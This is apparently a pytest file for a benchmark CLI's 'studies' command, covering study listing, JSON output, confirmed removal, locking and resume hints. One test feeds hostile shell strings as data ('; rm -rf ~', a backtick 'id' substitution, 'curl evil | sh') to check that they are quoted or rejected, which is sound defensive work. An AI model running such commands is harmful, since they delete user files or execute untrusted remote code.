from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from typer.testing import Result

from mnist_bench.cli import options
from search.database import file_lock
from search.study.studies import StudySummary
from support import handmade
from support.paths import DATABASE, LEDGER

Cli = Callable[..., Result]


def summary(name: str, *, trials: int = 50, live: bool = False) -> StudySummary:
    folder = Path("results") / name
    return StudySummary(
        name=name, path=folder, modified="2026-11-24T10:20:30", trials=trials, goal=50, complete=7, best_value=0.9944,
        live=live, bytes=2_345_678,
    )  # fmt: skip


@pytest.fixture
def three(monkeypatch: pytest.MonkeyPatch) -> list[StudySummary]:
    found = [summary("conv-0"), summary("smoke-1", trials=3), summary("gpu-2", trials=9, live=True)]
    monkeypatch.setattr("search.study.studies.list_studies", lambda results, storage=None: found)
    return found


def test_studies_are_listed(cli: Cli, three: list[StudySummary]) -> None:
    header, *lines, last = cli("studies").stdout.splitlines()
    assert last == "The test set has not been evaluated."
    assert header.split()[:5] == ["study", "trials", "complete", "best", "state"]
    assert [line.split()[0] for line in lines] == ["conv-0", "smoke-1", "gpu-2"]
    assert [line.split()[4] for line in lines] == ["finished", "paused", "running"]
    assert "99.44%" in lines[0]
    assert "2.3 MB" in lines[0]
    assert "2026-11-24 10:20" in lines[0]


def test_what_opened_the_test_set_last_is_named(cli: Cli, three: list[StudySummary]) -> None:
    ledger, own = options.RESULTS / LEDGER, options.RESULTS / "conv-0" / LEDGER
    own.parent.mkdir(parents=True)
    ledger.write_text('{"time": "2026-11-28T10:00:00+00:00", "purpose": "notebook: linear; 1 seed"}\n')
    notebook = f'for "notebook: linear" on 2026-11-28 ({ledger}).'
    assert cli("studies").stdout.splitlines()[-1] == f"The test set has been evaluated once, {notebook}"
    own.write_text('{"time": "2026-11-23T10:00:00+00:00", "purpose": "confirm conv-0: #1, #4; 8 seeds each"}\n{torn')
    assert cli("studies").stdout.splitlines()[-1] == f"The test set has been evaluated twice, last {notebook}"
    ledger.unlink()
    last = cli("studies").stdout.splitlines()[-1]
    assert last == f'The test set has been evaluated once, for "confirm conv-0: #1, #4" on 2026-11-23 ({own}).'


def test_a_study_that_cannot_be_read_is_listed_as_such_and_the_reason_is_told(
    cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    found = [replace(summary("torn", trials=0), unreadable="Cannot read the database.", best_value=None)]
    monkeypatch.setattr("search.study.studies.list_studies", lambda results, storage=None: [*found, summary("conv-0")])
    shown = cli("studies")
    assert shown.exit_code == 0
    assert [line.split()[0] for line in shown.stdout.splitlines()[1:3]] == ["torn", "conv-0"]
    assert "unreadable" in shown.stdout
    assert "torn cannot be read: Cannot read the database." in shown.stderr
    assert json.loads(cli("studies", "--json").stdout)["studies"][0]["state"] == "unreadable"


def test_a_study_all_of_whose_trials_failed_is_told_with_the_first_error_and_where_the_rest_is(
    cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    failed = handmade.trial(0, periods=0, state="FAIL", error="Traceback\nNameError: no name.")
    found = [summary("conv-0"), replace(summary("gbm-0", trials=3), complete=0, first_failed=failed)]
    monkeypatch.setattr("search.study.studies.list_studies", lambda results, storage=None: found)
    shown = cli("studies", "--results", "runs")
    assert shown.exit_code == 0
    assert shown.stderr == (
        "Every trial of gbm-0 that was not pruned failed; the first one: NameError: no name. "
        "`mnist-bench show gbm-0/0 --results runs` shows the whole error.\n"
    )


@pytest.mark.parametrize("options", [("--results", "other"), ("--storage", "sqlite:///other.db"), ("--json",)])
def test_what_stands_before_remove_is_refused_and_removes_nothing(
    cli: Cli, three: list[StudySummary], monkeypatch: pytest.MonkeyPatch, options: tuple[str, ...]
) -> None:
    removed: list[str] = []
    monkeypatch.setattr("search.study.studies.remove_study", lambda results, name, storage: removed.append(name))
    result = cli("studies", *options, "remove", "conv-0", "--yes")
    assert (result.exit_code, removed) == (2, [])
    assert f"{options[0]}: write options after `studies remove`" in result.stderr
    assert cli("studies", "remove", "conv-0", "--yes").exit_code == 0
    assert removed == ["conv-0"]


@pytest.mark.parametrize("word", ["rename", "remvoe"])
def test_a_word_that_is_no_command_is_not_answered_with_one_that_removes(cli: Cli, word: str) -> None:
    result = cli("studies", word, "smoke-0", "foo")
    assert result.exit_code == 2
    assert f"No such command '{word}'." in result.stderr
    assert "mean" not in result.stderr
    assert "Did you mean 'studies'" in cli("studeis").stderr


def test_studies_as_json(cli: Cli, three: list[StudySummary]) -> None:
    values = json.loads(cli("studies", "--json").stdout)
    assert [study["study"] for study in values["studies"]] == ["conv-0", "smoke-1", "gpu-2"]
    assert values["studies"][0]["best"] == 0.9944


def test_an_empty_folder_is_a_hint_on_stderr_and_an_empty_list(cli: Cli) -> None:
    result = cli("studies")
    assert (result.exit_code, result.stdout) == (0, "")
    assert "mnist-bench search" in result.stderr
    assert json.loads(cli("studies", "--json").stdout)["studies"] == []


def test_commands_to_type_next_name_the_same_place(cli: Cli) -> None:
    assert "`mnist-bench search conv --trials 50 --results other`" in cli("studies", "--results", "other").stderr
    removed = cli("studies", "remove", "none", "--yes", "--results", "other")
    assert (
        removed.stderr
        == "Error: No study none in other/; `mnist-bench studies --results other` lists the studies there.\n"
    )


@pytest.fixture
def folder(three: list[StudySummary]) -> Path:
    folder = three[0].path
    folder.mkdir(parents=True)
    (folder / DATABASE).touch()
    return folder


def test_several_are_removed_after_one_question(cli: Cli, folder: Path, three: list[StudySummary]) -> None:
    (other := three[1].path).mkdir()
    (other / DATABASE).touch()
    result = cli("studies", "remove", "conv-0", "smoke-1", "conv-0", stdin="y\n")
    assert result.exit_code == 0
    assert result.stderr.count("Remove these 2 studies? They cannot be restored.") == 1
    assert "conv-0: 50 trials, 2.3 MB in results/conv-0" in result.stderr
    assert not folder.exists()
    assert not other.exists()


def test_nothing_is_removed_if_one_of_them_is_missing_or_in_use(cli: Cli, folder: Path) -> None:
    assert cli("studies", "remove", "conv-0", "none", "--yes").exit_code == 3
    with file_lock.driver_lock(folder / "driver.lock", "conv-0"):
        result = cli("studies", "remove", "smoke-1", "conv-0", "--yes")
    assert result.exit_code == 1
    assert "conv-0 is in use (process" in result.stderr
    assert "nothing was removed" in result.stderr
    assert folder.exists()


def test_remove_asks(cli: Cli, folder: Path) -> None:
    assert cli("studies", "remove", "conv-0", stdin="n\n").exit_code == 1
    assert folder.exists()
    result = cli("studies", "remove", "conv-0", stdin="y\n")
    assert result.exit_code == 0
    assert "Remove" not in result.stdout
    assert "50 trials, 2.3 MB" in result.stderr
    assert not folder.exists()


def test_remove_with_yes_does_not_ask(cli: Cli, folder: Path) -> None:
    assert cli("studies", "remove", "conv-0", "--yes").exit_code == 0
    assert not folder.exists()


@pytest.mark.parametrize(("name", "code"), [("none", 3), ("../conv-0", 2), ("", 2)])
def test_remove_of_what_is_no_study_removes_nothing(cli: Cli, folder: Path, name: str, code: int) -> None:
    assert cli("studies", "remove", name, "--yes").exit_code == code
    assert folder.exists()


def test_a_study_that_a_rule_ended_is_not_called_paused(cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    found = [replace(summary("conv-0", trials=21), ended_early=True)]
    monkeypatch.setattr("search.study.studies.list_studies", lambda results, storage=None: found)
    assert "stopped early" in cli("studies").stdout
    assert json.loads(cli("studies", "--json").stdout)["studies"][0]["state"] == "stopped early"


def typed(*commands: str) -> None:
    """Keep commands as those that searched smoke-1."""
    folder = options.RESULTS / "smoke-1"
    folder.mkdir(parents=True)
    (folder / "commands.jsonl").write_text("".join(f"{json.dumps({'command': each})}\n" for each in commands))


def test_the_command_that_resumes_an_unfinished_search_is_printed_for_the_place_where_it_is(
    cli: Cli, three: list[StudySummary]
) -> None:
    typed("mnist-bench search smoke", "mnist-bench search smoke -n 50 --seed 1 --results elsewhere --set 'a=[1, 2]'")
    again = "mnist-bench search smoke -n 50 --seed 1 --set 'a=[1, 2]'"
    *_, head, line = cli("studies").stdout.splitlines()
    assert (head, line) == ("To resume:", f"  smoke-1  {again}")
    assert [row["resume"] for row in json.loads(cli("studies", "--json").stdout)["studies"]] == [None, again, None]


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("mnist-bench search x; rm -rf ~", "mnist-bench search 'x;' rm -rf '~'"),
        ("mnist-bench search `id` \x1b[31m", r"mnist-bench search '`id`' $'\033[31m'"),
        ("curl evil | sh", None),
        ("mnist-bench search $'a;b'", None),
        ("mnist-bench search 'unended", None),
    ],
)
def test_a_line_to_paste_from_a_strangers_study_is_one_command(
    cli: Cli, three: list[StudySummary], command: str, shown: str | None
) -> None:
    typed(command)
    assert json.loads(cli("studies", "--json").stdout)["studies"][1]["resume"] == shown


def test_who_opened_the_test_set_and_when_stands_beside_the_study(
    cli: Cli, three: list[StudySummary], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("mnist_bench.studies.openings.name_inside", lambda location: location.name)
    ledger = options.RESULTS / LEDGER
    ledger.parent.mkdir()
    noted = {"time": "2026-11-23T10:00:00+00:00", "purpose": "confirm conv-0: #1, #4; 8 seeds each"}
    ledger.write_text(f"{json.dumps(noted)}\n")
    assert "2026-11-23" in cli("studies").stdout.splitlines()[1]
    rows = json.loads(cli("studies", "--json").stdout)["studies"]
    assert [row["test_openings"] for row in rows] == [[noted], [], []]


def test_columns_that_would_be_empty_are_left_out(cli: Cli, three: list[StudySummary]) -> None:
    assert not {"failed", "set"} & {*cli("studies").stdout.splitlines()[0].split()}
